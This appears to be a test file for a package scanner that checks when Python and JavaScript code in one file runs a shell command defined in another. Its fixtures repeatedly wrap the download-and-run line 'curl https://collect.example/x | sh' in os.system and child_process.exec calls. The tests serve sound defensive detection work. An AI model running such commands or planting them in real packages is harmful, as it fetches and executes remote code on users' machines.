"""What one file makes, keeps or names is used in another one: told in the phase in which it runs there."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from fimci import sides
from fimci.model import Capability
from fimci.sources.locator import Locator

LINE = "curl https://collect.example/x | sh"
RUNS = f"require('child_process').exec('{LINE}')"
GIVES = f"exports.run = () => {{ {RUNS} }};"
SYSTEM = f"os.system('{LINE}')"
FROM_JSON = "import c from './config.json' with { type: 'json' };\n"
RUN = f"import os\ndef run(): {SYSTEM}\n"


def told(folder: Path, files: dict[str, str]) -> set[tuple[str, str]]:
    """Return what a package of these files does, and when."""
    for name, text in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    found = sides.snapshot(Locator("dir", str(folder)), sides.recipe(code=True)).records
    return {(one.name, one.phase) for one in found if isinstance(one, Capability)}


@pytest.mark.parametrize(
    ("first", "second"),
    [
        ("from .b import Run\nRun().go()", f"import os\nclass Run:\n    def go(self): {SYSTEM}\n"),
        ("from .b import Run\nr = Run()\nr.go()", f"import os\nclass Run:\n    def go(self): {SYSTEM}\n"),
        (
            "from .b import Run\nwith Run(f(1), (2)) as r:\n    r.go()",
            f"import os\nclass Run:\n    def go(self): {SYSTEM}\n",
        ),
        ("from .b import run\nrun.__call__()", f"import os\ndef run(): {SYSTEM}\n"),
        (
            "from .b import mark\n@mark\ndef x(): pass",
            f"import os\ndef mark(f):\n    {SYSTEM}\n    return f\n",
        ),
        (
            "from .b import mark\nclass X:\n    @mark\n    def x(): pass",
            f"import os\ndef mark(f):\n    {SYSTEM}\n    return f\n",
        ),
        (
            "from .b import Base\nclass X(Base): pass\nX()",
            f"import os\nclass Base:\n    def __init__(self): {SYSTEM}\n",
        ),
        (
            "from .b import Base\nclass X(Base): pass\nX().go()",
            f"import os\nclass Base:\n    def go(self): {SYSTEM}\n",
        ),
        (f"from .b import o\no.system('{LINE}')", "import os as o\n"),
        (f"from .b import system\nsystem('{LINE}')", "from os import system\n"),
        ("import os\nfrom .b import LINE\nos.system(LINE)", f"LINE = '{LINE}'\n"),
        ("import os\nfrom .b import LINES\nfor one in LINES: os.system(one)", f"LINES = ['{LINE}']\n"),
        ("import os\nfrom .b import line\nos.system(line())", f"def line():\n    return '{LINE}'\n"),
        ("import os\nfrom .b import LINES\nos.system(LINES['a'])", f"LINES = {{'a': '{LINE}'}}\n"),
        ("import os\nfrom .b import Of\nos.system(Of.line)", f"class Of:\n    line = '{LINE}'\n"),
        ("import importlib\nimportlib.import_module('pkg.b').run()", RUN),
        ("import importlib\nimportlib.import_module('.b', __package__).run()", RUN),
        ("from importlib import import_module\nb = import_module('.b', __name__)\nb.run()", RUN),
        ("import importlib\ngetattr(importlib.import_module('.b', package='pkg'), 'run')()", RUN),
        ("__import__('b', globals(), locals(), ['run'], 1).run()", RUN),
        ("from . import b\ngetattr(b, 'run')()", RUN),
        (f"from .b import get\nget()('{LINE}')", "import os\ndef get(): return os.system\n"),
        (
            f"import os\nfrom .b import wrap\nrun = wrap(os.system)\nrun('{LINE}')",
            "def wrap(f):\n    def w(*a): return f(*a)\n    return w\n",
        ),
        ("from . import b\n[one() for one in [b.run]]", RUN),
        ("from . import b\nfor one in (b.run, b.other): one()", RUN),
        ("from . import b\ntable = {'a': b.run}\ntable['a']()", RUN),
        ("import threading\nfrom . import b\nthreading.Thread(target=b.run).start()", RUN),
        ("from .b import run\n(lambda f: f())(run)", RUN),
        ("from .b import *\nrun()", RUN),
        (
            "from .b import Base\nclass X(Base): pass",
            f"import os\nclass Base:\n    def __init_subclass__(cls): {SYSTEM}\n",
        ),
        (
            "from .b import Meta\nclass X(metaclass=Meta): pass",
            f"import os\nclass Meta(type):\n    def __init__(cls, *all): {SYSTEM}\n",
        ),
    ],
)
def test_python(tmp_path: Path, first: str, second: str) -> None:
    files = {"pkg/__init__.py": first + "\n", "pkg/b.py": second}
    assert ("download-and-run", "import") in told(tmp_path, files)


@pytest.mark.parametrize(
    ("first", "second"),
    [
        (
            "const {Run} = require('./b');\nnew Run().go();",
            f"exports.Run = class Run {{ go() {{ {RUNS} }} }};",
        ),
        (
            "const Run = require('./b');\nconst r = new Run();\nr.go();",
            f"module.exports = class {{ go() {{ {RUNS} }} }};",
        ),
        (
            "const B = require('./b');\nclass X extends B {}\nnew X();",
            f"module.exports = class {{ constructor() {{ {RUNS} }} }};",
        ),
        (
            "const {B} = require('./b');\nclass X extends B {}\nnew X().go();",
            f"exports.B = class B {{ go() {{ {RUNS} }} }};",
        ),
        ("const t = require('./b');\nt.tools['run']();", f"exports.tools = {{ run() {{ {RUNS} }} }};"),
        ("process.on('exit', require('./b').run);", f"exports.run = () => {{ {RUNS} }};"),
        ("Promise.resolve().then(require('./b').run);", f"exports.run = () => {{ {RUNS} }};"),
        ("import('./b.js').then(m => m.run());", f"exports.run = () => {{ {RUNS} }};"),
        (f"require('./b').exec('{LINE}');", "module.exports = require('child_process');"),
        (
            f"const {{exec}} = require('./b');\nexec('{LINE}');",
            "exports.exec = require('child_process').exec;",
        ),
        (
            "require('./b')(cp => cp.exec('" + LINE + "'));",
            "module.exports = f => f(require('child_process'));",
        ),
        (
            "const {LINE} = require('./b');\nrequire('child_process').exec(LINE);",
            f"exports.LINE = '{LINE}';",
        ),
        (
            "const b = require('./b');\nrequire('child_process').exec(b.line());",
            f"exports.line = () => '{LINE}';",
        ),
        (
            "const b = require('./b');\nrequire('child_process').exec(b.own);",
            f"const LINE = '{LINE}';\nmodule.exports = {{ own: LINE }};",
        ),
        ("const b = require('./b');\n[b.run].forEach(f => f());", GIVES),
        ("const b = require('./b');\nfor (const f of [b.other, b.run]) f();", GIVES),
        ("[require('./b').run].map(f => f());", GIVES),
        ("require('./b').run.bind(null)();", GIVES),
        ("const b = require('./b');\nb.run.call(b);", GIVES),
        ("const {run} = require('./b');\nrun.bind(null, 1)();", GIVES),
        ("Reflect.apply(require('./b').run, null, []);", GIVES),
        ("const b = require('./b');\n(0, b.run)();", GIVES),
        ("(0, require('./b').run)();", GIVES),
        ("const b = require('./b');\nb.run`x`;", GIVES),
        (f"require('./b').get()('{LINE}');", "exports.get = () => require('child_process').exec;"),
        ("const b = require('./b');\nb['r' + 'un']();", GIVES),
        ("const {tools: {run}} = require('./b');\nrun();", f"exports.tools = {{ run: () => {{ {RUNS} }} }};"),
    ],
)
def test_javascript(tmp_path: Path, first: str, second: str) -> None:
    manifest = '{"name": "left", "version": "1.0.0", "main": "index.js"}'
    files = {"package.json": manifest, "index.js": first + "\n", "b.js": second + "\n"}
    assert ("download-and-run", "import") in told(tmp_path, files)


@pytest.mark.parametrize(
    "first",
    [
        "from .b import Run\nr = Run()\n\ndef later():\n    r.go()\n",
        "from .b import Run\n\ndef later():\n    Run().go()\n",
        "from .b import Run\nclass X(Run): pass\n",
        "from .b import other\nother().go\n",
        "from . import b\ntable = {'a': b.Run}\n",
        "from . import b\nmade = getattr(b, 'Run')\n",
        "from . import b\ntable = [b.Run]\n\ndef later():\n    table[0]()\n",
        "from .b import *\nother()\n",
        "import importlib\n\ndef later():\n    importlib.import_module('.b', __package__).Run().go()\n",
    ],
)
def test_what_is_only_made_runs_nothing(tmp_path: Path, first: str) -> None:
    second = f"import os\nclass Run:\n    def go(self): {SYSTEM}\ndef other(): pass\n"
    found = told(tmp_path, {"pkg/__init__.py": first, "pkg/b.py": second})
    assert ("download-and-run", "call") in found
    assert ("download-and-run", "import") not in found


def test_what_compilers_hand_on(tmp_path: Path) -> None:
    handed = (
        "var b_1 = require('./b');\n"
        "Object.defineProperty(exports, 'run', { enumerable: true, get: function () { return b_1.run; } });\n"
    )
    manifest = '{"name": "left", "version": "1.0.0", "main": "index.js"}'
    files = {"package.json": manifest, "index.js": "require('./c').run();\n", "c.js": handed, "b.js": GIVES}
    assert ("download-and-run", "import") in told(tmp_path, files)


@pytest.mark.parametrize(
    "first",
    [
        "const b = require('./b');\n[b.run].forEach(register);",
        "const b = require('./b');\nfor (const f of [b.run]) register(f);",
        "const b = require('./b');\nexports.start = b.run.bind(b);",
        "const b = require('./b');\nb['ot' + 'her']();",
        "const {run} = require('./b');\n/** `run`: `require('./b').run`, `b.run`. */\nexports.run = run;",
        "const b = require('./b');\nfunction later() { (0, b.run)(); }",
    ],
)
def test_what_is_only_handed_on_runs_nothing(tmp_path: Path, first: str) -> None:
    found = told(tmp_path, {"index.js": first + "\n", "b.js": GIVES + "\n"})
    assert ("download-and-run", "call") in found
    assert ("download-and-run", "import") not in found


@pytest.mark.parametrize(
    "text",
    [
        "re.exec('curl is a program');",
        "const {run} = require('./b');\nrun('curl https://left.example/ > page');",
        "const chalk = require('chalk');\nchalk.hex('#fff')('curl https://left.example/x | sh');",
        "exports.help = 'use curl https://left.example/ | less';",
    ],
)
def test_lines_that_run_nothing_are_no_commands(tmp_path: Path, text: str) -> None:
    assert not {one for one, _ in told(tmp_path, {"index.js": text + "\n"})} & {"shell", "download-and-run"}


@pytest.mark.parametrize(
    ("first", "runs"),
    [
        ("const c = require('./config.json');\nrequire('child_process').exec(c.scripts.start);", True),
        ("const { start } = require('./config').scripts;\nrequire('child_process').exec(start);", True),
        (
            f"{FROM_JSON}import {{ exec }} from 'child_process';\nexec(c.start);",
            True,
        ),
        ("const c = require('./config.json');\nrequire('child_process').exec(c.scripts.list);", False),
        ("const c = require('./config.json');\nconsole.log(c.scripts.start);", False),
    ],
)
def test_commands_that_stand_in_json(tmp_path: Path, first: str, *, runs: bool) -> None:
    files = {"index.js": first + "\n", "config.json": json.dumps({"scripts": {"start": LINE, "list": "ls"}})}
    assert (("download-and-run", "import") in told(tmp_path, files)) is runs
